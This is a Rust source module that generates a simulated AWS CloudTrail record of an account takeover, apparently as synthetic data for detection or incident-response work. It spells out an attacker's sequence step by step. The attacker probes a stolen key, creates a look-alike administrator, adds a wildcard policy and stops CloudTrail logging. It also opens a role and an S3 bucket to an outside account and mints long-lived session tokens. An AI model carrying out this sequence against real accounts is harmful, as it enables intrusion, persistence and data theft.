//! The attack, told in order.

use chrono::TimeDelta;
use serde_json::json;

use super::calls::{administrator_policy, assume_role, billing_sync, create_key, create_user, deploy_bot, url_encoded};
use super::cast::{
    ATTACKER_LATER, BROWSER, OUTSIDE_ACCOUNT, SCRIPT, at_command_line, browser, federated, role_arn, role_id,
    role_session, thief, user_arn, user_id, user_session,
};
use super::endgame;
use super::record::{ACCOUNT, Call, Hand, at, credentials, key_id, response_date, session_key_id, unique_id};

/// Every call of the attacker, of AWS's reaction and of the responder.
pub(super) fn attack() -> Vec<Call> {
    [
        the_key_is_tested(),
        a_user_and_keys_are_made(),
        the_console_is_opened(),
        the_regions_are_surveyed(),
        a_role_lets_an_outsider_in(),
        sessions_outlive_the_key(),
        endgame::miners_are_started(),
        endgame::tracks_are_covered(),
        endgame::aws_and_the_responder_react(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// 09:12. Does it work, whose is it, what may it do? Much is denied; IAM, carelessly, is not.
fn the_key_is_tested() -> Vec<Call> {
    let thief = thief();
    let mut calls = vec![
        thief.call(at(9, 12, 31), "sts:GetCallerIdentity"),
        thief.call(at(9, 13, 2), "iam:ListAccountAliases").denied("*"),
        thief.call(at(9, 13, 40), "iam:GetUser"),
        thief
            .call(at(9, 14, 5), "iam:ListAttachedUserPolicies")
            .asks(json!({"userName": "invoice-app"})),
        thief
            .call(at(9, 14, 31), "iam:ListUserPolicies")
            .asks(json!({"userName": "invoice-app"})),
        thief.call(at(9, 15, 9), "iam:GetAccountSummary"),
        thief
            .call(at(9, 15, 44), "iam:ListUsers")
            .asks(json!({"maxItems": 100})),
        thief.call(at(9, 16, 20), "iam:ListRoles"),
        thief
            .call(at(9, 17, 3), "organizations:DescribeOrganization")
            .denied("*"),
        thief
            .call(at(9, 17, 33), "sts:AssumeRole")
            .denied(&role_arn("break-glass")),
        thief.call(at(9, 18, 1), "s3:ListBuckets"),
        thief.call(at(9, 18, 49), "secretsmanager:ListSecrets").denied("*"),
        thief
            .call(at(9, 19, 30), "ce:GetCostAndUsage")
            .denied(&format!("arn:aws:ce:us-east-1:{ACCOUNT}:/GetCostAndUsage")),
        thief
            .call(at(9, 20, 12), "iam:GetAccountAuthorizationDetails")
            .denied("*"),
    ];
    for (n, region) in (0..).zip(["us-east-1", "us-west-2", "eu-west-1", "ap-southeast-1"]) {
        let time = at(9, 21, 5 + 20 * n);
        calls.push(thief.call(time, "ses:GetSendQuota").region(region));
        calls.push(
            thief
                .call(time + TimeDelta::seconds(6), "ec2:DescribeInstances")
                .region(region)
                .asks(json!({"maxResults": 1000, "instancesSet": {}, "filterSet": {}}))
                .fails(
                    "Client.UnauthorizedOperation",
                    "You are not authorized to perform this operation.",
                ),
        );
    }
    calls
}

/// 09:31. A user that sounds like ours, administrator rights, and a second key for the build server's user.
fn a_user_and_keys_are_made() -> Vec<Call> {
    let thief = thief();
    let admin = billing_sync();
    let bot = deploy_bot();
    vec![
        create_user(&thief, at(9, 31, 4), "billing-sync", &user_id("billing-sync")),
        thief
            .call(at(9, 31, 22), "iam:CreateUser")
            .asks(json!({"userName": "billing-sync"}))
            .fails(
                "EntityAlreadyExistsException",
                "User with name billing-sync already exists.",
            ),
        create_key(&thief, at(9, 31, 40), "billing-sync", &key_id("billing-sync")),
        thief
            .call(at(9, 32, 11), "iam:AttachUserPolicy")
            .asks(json!({"userName": "billing-sync", "policyArn": administrator_policy()})),
        admin.call(at(9, 36, 2), "sts:GetCallerIdentity"),
        admin.call(at(9, 36, 30), "iam:ListUsers"),
        admin
            .call(at(9, 37, 1), "iam:ListAccessKeys")
            .asks(json!({"userName": "deploy-bot"})),
        create_key(&admin, at(9, 38, 15), "deploy-bot", &key_id("deploy-bot 2")),
        bot.call(at(9, 41, 50), "sts:GetCallerIdentity"),
        bot.call(at(9, 42, 8), "ecr:DescribeRepositories").region("eu-west-1"),
        bot.call(at(9, 42, 31), "ec2:DescribeRegions"),
        bot.call(at(9, 43, 2), "ecs:ListClusters").region("us-west-2"),
        bot.call(at(9, 43, 40), "secretsmanager:ListSecrets").denied("*"),
        admin
            .call(at(9, 45, 12), "secretsmanager:ListSecrets")
            .asks(json!({"maxResults": 100})),
        admin
            .call(at(9, 45, 59), "secretsmanager:GetSecretValue")
            .asks(json!({"secretId": "invoices/database"})),
        admin
            .call(at(9, 46, 33), "ssm:GetParametersByPath")
            .asks(json!({"path": "/", "recursive": true, "withDecryption": true})),
        admin.call(at(9, 47, 20), "rds:DescribeDBInstances"),
        admin.call(at(9, 48, 2), "cloudtrail:DescribeTrails"),
        admin.call(at(9, 48, 41), "guardduty:ListDetectors"),
    ]
}

/// 09:52. A password, a failed sign-in, a good one without MFA, and what a browser then does with a dozen keys.
fn the_console_is_opened() -> Vec<Call> {
    // Each widget of the console brings its own key.
    const WIDGETS: [&[&str]; 12] = [
        &["health:DescribeEventAggregates", "notifications:ListNotificationHubs"],
        &["account:ListRegions", "account:GetAccountInformation"],
        &["iam:GetAccountSummary", "iam:ListUsers", "iam:ListRoles"],
        &["ce:GetCostAndUsage", "ce:GetCostForecast"],
        &["ec2:DescribeInstances", "ec2:DescribeRegions"],
        &["s3:ListBuckets", "s3:GetBucketPolicy"],
        &["rds:DescribeDBInstances", "rds:DescribeDBSnapshots"],
        &["lambda:ListFunctions20150331"],
        &["cloudtrail:LookupEvents", "cloudtrail:DescribeTrails"],
        &["servicequotas:ListServiceQuotas", "servicequotas:GetServiceQuota"],
        &["sso:DescribeRegisteredRegions", "organizations:DescribeOrganization"],
        &["support:DescribeCases"],
    ];
    let admin = billing_sync();
    let signed_in = at(9, 55, 48);
    let person = Hand {
        identity: json!({"type": "IAMUser", "principalId": user_id("billing-sync"), "arn": user_arn("billing-sync"),
                         "accountId": ACCOUNT, "userName": "billing-sync"}),
        address: ATTACKER_LATER,
        agent: BROWSER,
    };
    let sign_in = |time, result: &str| {
        person
            .call(time, "signin:ConsoleLogin")
            .answers(json!({"ConsoleLogin": result}))
            .event_type("AwsConsoleSignIn")
            .with("readOnly", json!(false))
            .with(
                "additionalEventData",
                json!({"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"}),
            )
    };
    let mut calls = vec![
        admin
            .call(at(9, 52, 10), "iam:CreateLoginProfile")
            .asks(json!({"userName": "billing-sync", "passwordResetRequired": false}))
            .answers(
                json!({"loginProfile": {"userName": "billing-sync", "createDate": response_date(at(9, 52, 10)),
                                             "passwordResetRequired": false}}),
            ),
        sign_in(at(9, 55, 20), "Failure").with("errorMessage", json!("Failed authentication")),
        sign_in(signed_in, "Success"),
    ];
    let click = |widget: usize, time, what| {
        browser(widget, signed_in)
            .call(time, what)
            .with("sessionCredentialFromConsole", json!("true"))
    };
    let mut time = signed_in;
    for (n, widget) in WIDGETS.into_iter().enumerate() {
        for what in widget {
            time += TimeDelta::seconds(17);
            calls.push(click(n, time, what));
        }
    }
    calls.extend([
        click(2, at(10, 12, 4), "iam:PutUserPolicy").asks(json!({
            "userName": "deploy-bot", "policyName": "deploy-extra",
            "policyDocument": r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#,
        })),
        click(8, at(10, 21, 37), "cloudtrail:StopLogging")
            .asks(json!({"name": format!("arn:aws:cloudtrail:us-east-1:{ACCOUNT}:trail/management")})),
    ]);
    calls
}

/// 10:27. Which regions have machines, and room for more?
fn the_regions_are_surveyed() -> Vec<Call> {
    const REGIONS: [&str; 16] = [
        "us-east-1",
        "us-east-2",
        "us-west-1",
        "us-west-2",
        "ap-south-1",
        "ap-northeast-1",
        "ap-northeast-2",
        "ap-southeast-1",
        "ap-southeast-2",
        "ca-central-1",
        "eu-central-1",
        "eu-west-1",
        "eu-west-2",
        "eu-west-3",
        "eu-north-1",
        "sa-east-1",
    ];
    let bot = deploy_bot();
    let survey = |(n, region): (i64, &'static str)| {
        [
            bot.call(at(10, 27, 10 + 4 * n), "ec2:DescribeInstances").region(region),
            bot.call(at(10, 27, 12 + 4 * n), "servicequotas:ListServiceQuotas")
                .region(region)
                .asks(json!({"serviceCode": "ec2"})),
        ]
    };
    (0..).zip(REGIONS).flat_map(survey).collect()
}

/// 10:44. A role that another account may assume: a door that needs no key of ours.
fn a_role_lets_an_outsider_in() -> Vec<Call> {
    let admin = billing_sync();
    let trust = format!(
        r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":{{"AWS":"arn:aws:iam::{OUTSIDE_ACCOUNT}:root","Service":["ec2.amazonaws.com","lambda.amazonaws.com"]}},"Action":"sts:AssumeRole"}}]}}"#
    );
    let outsider = Hand {
        identity: json!({"type": "AWSAccount", "principalId": unique_id("AIDA", "outsider"), "accountId": OUTSIDE_ACCOUNT}),
        address: ATTACKER_LATER,
        agent: SCRIPT,
    };
    let (first, chained) = (session_key_id("support-audit"), session_key_id("data-export"));
    let session = Hand {
        identity: role_session("support-audit", "audit", &first, at(11, 4, 50)),
        ..outsider.clone()
    };
    let export = Hand {
        identity: role_session("data-export", "nightly", &chained, at(11, 9, 12)),
        ..outsider.clone()
    };
    let made = at(10, 44, 19);
    vec![
        admin
            .call(made, "iam:CreateRole")
            .asks(json!({"roleName": "support-audit", "assumeRolePolicyDocument": trust}))
            .answers(json!({"role": {
                "path": "/", "roleName": "support-audit", "roleId": role_id("support-audit"),
                "arn": role_arn("support-audit"), "createDate": response_date(made), "assumeRolePolicyDocument": url_encoded(&trust),
            }})),
        admin
            .call(at(10, 44, 50), "iam:AttachRolePolicy")
            .asks(json!({"roleName": "support-audit", "policyArn": administrator_policy()})),
        assume_role(&outsider, at(11, 4, 50), "support-audit", "audit", &first, 1)
            .with("sharedEventID", json!("5b1d7c0e-3f52-4a86-a9d1-0c4e8f7a2b63")),
        session.call(at(11, 5, 9), "sts:GetCallerIdentity"),
        session.call(at(11, 5, 58), "s3:ListBuckets"),
        session.call(at(11, 6, 31), "iam:ListRoles"),
        session.call(at(11, 7, 4), "kms:ListKeys"),
        session.call(at(11, 7, 44), "sts:AssumeRole").denied(&role_arn("break-glass")),
        assume_role(&session, at(11, 9, 12), "data-export", "nightly", &chained, 1),
        export.call(at(11, 9, 40), "sts:GetCallerIdentity"),
        export.call(at(11, 10, 2), "s3:GetBucketPolicy").asks(json!({"bucketName": "example-exports"})),
        export.call(at(11, 11, 15), "s3:PutBucketPolicy").asks(json!({
            "bucketName": "example-exports",
            "bucketPolicy": {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:GetObject",
                "Principal": {"AWS": format!("arn:aws:iam::{OUTSIDE_ACCOUNT}:root")},
                "Resource": "arn:aws:s3:::example-exports/*"}]},
        })),
        export.call(at(11, 12, 3), "rds:DescribeDBSnapshots"),
    ]
}

/// 11:24. Two kinds of temporary credentials that stay valid when their key is switched off.
fn sessions_outlive_the_key() -> Vec<Call> {
    let (admin, bot) = (billing_sync(), deploy_bot());
    let (federation, token) = (session_key_id("federation"), session_key_id("session token"));
    let (federated_at, token_at) = (at(11, 24, 6), at(11, 30, 41));
    let guest = at_command_line(
        federated("helpdesk", "billing-sync", &federation, federated_at),
        ATTACKER_LATER,
    );
    let bot_session = Hand {
        identity: user_session("deploy-bot", &token, token_at),
        ..bot.clone()
    };
    vec![
        admin
            .call(federated_at, "sts:GetFederationToken")
            .asks(json!({"name": "helpdesk", "durationSeconds": 129_600}))
            .answers(json!({
                "credentials": credentials(&federation, federated_at + TimeDelta::hours(36)),
                "federatedUser": {"federatedUserId": format!("{ACCOUNT}:helpdesk"),
                                  "arn": format!("arn:aws:sts::{ACCOUNT}:federated-user/helpdesk")},
                "packedPolicySize": 4,
            })),
        guest.call(at(11, 24, 50), "sts:GetCallerIdentity"),
        guest.call(at(11, 25, 31), "ec2:DescribeRegions"),
        guest.call(at(11, 26, 2), "lambda:ListFunctions20150331"),
        guest.call(at(11, 26, 40), "iam:ListUsers").fails(
            "InvalidClientTokenId",
            "The security token included in the request is invalid",
        ),
        bot.call(token_at, "sts:GetSessionToken")
            .asks(json!({"durationSeconds": 43_200}))
            .answers(json!({"credentials": credentials(&token, token_at + TimeDelta::hours(12))})),
        bot_session
            .call(at(11, 31, 20), "ecr:GetAuthorizationToken")
            .region("eu-west-1"),
        bot_session.call(at(11, 32, 2), "codebuild:ListProjects"),
    ]
}
